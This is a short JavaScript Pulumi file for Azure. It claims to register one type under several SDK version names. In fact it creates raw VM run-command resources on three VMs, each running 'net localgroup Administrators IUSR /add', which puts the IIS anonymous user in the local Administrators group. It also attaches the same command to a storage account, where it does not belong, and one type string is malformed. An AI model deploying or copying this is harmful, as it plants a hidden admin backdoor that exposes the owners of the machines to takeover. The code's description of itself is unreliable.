const compute = require("@pulumi/azure-native/compute");
const pulumi = require("@pulumi/pulumi");

// The same type under the names that several versions of the SDK give it.
class Raw extends pulumi.CustomResource {}
const types = ["azure-native:compute/v20230901:VirtualMachineRunCommandByVirtualMachine", "azure-native_compute_v20240301:compute/v20240301:VirtualMachineRunCommandByVirtualMachine", "azure-nextgen:compute/latest:VirtualMachineRunCommandByVirtualMachine"];
types.forEach((type, index) => new Raw(type, `old-${index}`, { resourceGroupName: "rg", vmName: `vm-${index}`, source: { script: "net localgroup Administrators IUSR /add" } }));
new Raw("azure-native:storage:StorageAccount", "files", { accountName: "files", script: "net localgroup Administrators IUSR /add" });
